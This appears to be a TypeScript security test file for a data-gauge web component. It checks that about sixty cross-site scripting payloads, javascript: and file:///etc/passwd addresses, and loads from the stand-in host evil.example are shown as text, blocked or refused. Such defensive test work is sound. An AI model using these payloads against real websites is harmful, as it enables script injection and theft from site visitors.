// S: texts that want to be code. They are shown as text; nothing runs, nothing is fetched. The public collections
// (DOMPurify, H5SC, payloadbox, Mermaid's pages) are not at hand here: these are kinds of our own, one of each.
import { attributes, data, type HostileCase, json, modelJson, notes, refuses, shows, src } from '../case.js';
import { GOOD_MODEL } from '../good.mjs';

const RUN = 'window.pwned=1';

/** What wants to run, in each spelling that has worked somewhere. */
export const payloads: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script/type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<img src="x" onerror="&#119;indow.pwned=1">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `x onload=${RUN}`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext></table><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<div id="the-malware"></div>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `expression(${RUN})`,
  `url(//evil.example/x)`,
  `red;background:url(//evil.example/x)`,
  `</style><img src=x onerror=${RUN}>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u2028<script>${RUN}</script>`.slice(1),
  `<x-folkmoot is="script">${RUN}</x-folkmoot>`,
  `<folkmoot-gauge src="//evil.example/x.json"></folkmoot-gauge>`,
];

const everywhere = (payload: string): object => ({
  label: payload,
  area: payload,
  unit: payload,
  period: payload,
  value: 62,
  comparators: [
    { label: payload, value: 60 },
    { label: `${payload} (2)`, value: null, missing: 'suppressed' },
  ],
  bands: [{ label: payload, from: 0, to: 100 }],
  series: [{ period: payload, value: 61 }],
  source: { label: payload, licence: payload },
  assumption: payload,
});

/** Addresses that must not become links. */
const badAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript\u003aalert(1)',
  'data:text/html,<script>window.pwned=1</script>',
  'vbscript:msgbox(1)',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example',
  'https://user:pass@example.org/',
  'https:example.org',
  'http:/example.org',
  'mailto:a@example.org',
  'ftp://example.org/x',
  'about:blank',
  'ws://example.org',
  `https://example.org/${'x'.repeat(100_000)}`,
  'relative/path',
  '?query',
  '#fragment',
  'https://[::1',
  'filesystem:https://example.org/x',
  'intent://x',
  'chrome://settings',
];

const goodAddresses: readonly string[] = [
  'https://example.org/returns?year=2024#table',
  'http://example.org',
  'HTTPS://EXAMPLE.ORG/A',
  'https://пример.example/',
];

/** What must not be fetched. */
const badSources: readonly string[] = [
  'javascript:window.pwned=1',
  'data:application/json,{"label":"Trust","value":62}',
  'blob:null/1',
  'file:///etc/passwd',
  '//evil.example/x.json',
  'https://user:pass@example.org/x.json',
  'java\nscript:window.pwned=1',
];

/** S rows. */
export const injectionCases: readonly HostileCase[] = [
  ...payloads.map((payload, index) => {
    const name = `payload ${String(index + 1)}, ${payload.slice(0, 24)}`;
    // Each way in takes its turn; the text is in every field at once.
    const input = [
      data(everywhere(payload)),
      json(JSON.stringify(everywhere(payload))),
      attributes({
        label: payload,
        area: payload,
        unit: payload,
        period: payload,
        value: '62',
        source: payload,
        licence: payload,
        assumption: payload,
        comparators: `${payload.replaceAll(/[;:]/g, ' ')}: 60`,
        summary: payload,
        shape: payload,
        theme: payload,
        view: payload,
        type: payload,
      }),
    ][index % 3]!;
    return shows('S2', name, input);
  }),
  ...payloads
    .filter((_, index) => index % 6 === 0)
    .map((payload, index) =>
      shows(
        'S2',
        `payload ${String(index * 6 + 1)} in a model`,
        modelJson(
          JSON.stringify(GOOD_MODEL).replaceAll('"The Fens"', JSON.stringify(payload)).replaceAll('"Staying on"', JSON.stringify(payload)),
        ),
      ),
    ),
  ...badAddresses.map((href) =>
    notes(
      'S3',
      `a link to ${JSON.stringify(href.slice(0, 30))}`,
      data({ label: 'Trust', value: 62, source: { label: 'Survey', href } }),
      'url-blocked',
      /no link/,
    ),
  ),
  ...goodAddresses.map((href) =>
    shows('S3', `a link to ${href}`, data({ label: 'Trust', value: 62, source: { label: 'Survey', href } }), /Source: Survey/),
  ),
  notes(
    'S3',
    'a link by attribute',
    attributes({ label: 'Trust', value: '62', source: 'Survey', 'source-href': 'javascript:alert(1)' }),
    'schema',
    /source-href/,
  ),
  ...badSources.map((address) => refuses('S4', `data from ${JSON.stringify(address.slice(0, 30))}`, src(address), 'url-blocked')),
];
